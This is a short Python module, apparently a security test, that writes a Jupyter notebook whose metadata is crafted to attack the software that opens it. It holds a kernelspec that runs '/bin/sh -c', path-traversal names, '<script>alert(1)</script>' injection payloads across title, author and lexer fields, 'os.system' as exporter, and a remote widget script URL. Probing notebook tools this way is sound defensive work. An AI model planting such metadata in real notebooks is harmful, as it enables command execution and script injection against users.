"""Hands in a notebook for another language, with a kernel of its own command line, and lexers that are markup.

Gains: a kernel that is started as it says, or a page that believes the names in its metadata.
"""

FILE = "raw"

import json


def upload(path, released):
    told = {"display_name": "<script>alert(1)</script>", "language": "bash", "name": "../../bin/sh",
            "argv": ["/bin/sh", "-c", "echo 13 > result.json"], "env": {"PATH": "."}}
    released["metadata"] |= {
        "kernelspec": told, "language_info": {
            "name": "bash\"><script>alert(1)</script>", "pygments_lexer": "<script>alert(1)</script>",
            "codemirror_mode": {"name": "javascript"}, "file_extension": "../../../x", "mimetype": "text/html",
            "nbconvert_exporter": "os.system"},
        "title": "<script>alert(1)</script>", "authors": [{"name": "<script>alert(1)</script>"}],
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"a": {"model_module": "http://x/y.js"}}}}}
    path.write_text(json.dumps(released))
